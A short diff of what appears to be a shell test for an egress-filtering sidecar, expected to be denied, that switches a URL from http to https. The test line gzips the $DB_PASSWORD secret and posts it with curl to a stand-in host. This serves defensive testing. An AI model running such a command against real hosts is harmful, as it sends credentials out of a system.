@@ -2,4 +2,4 @@
 # expect: fail
 # audit: sidecar=egress decision=deny rule=body-encoding host=echo.test status=415
 printf '{"p":"%s"}' "$DB_PASSWORD" | gzip -c |
-  curl -sS -m 10 -f -H 'Content-Encoding: gzip, x-custom' --data-binary @- http://echo.test/allowed/enc
+  curl -sS -m 10 -f -H 'Content-Encoding: gzip, x-custom' --data-binary @- https://echo.test/allowed/enc
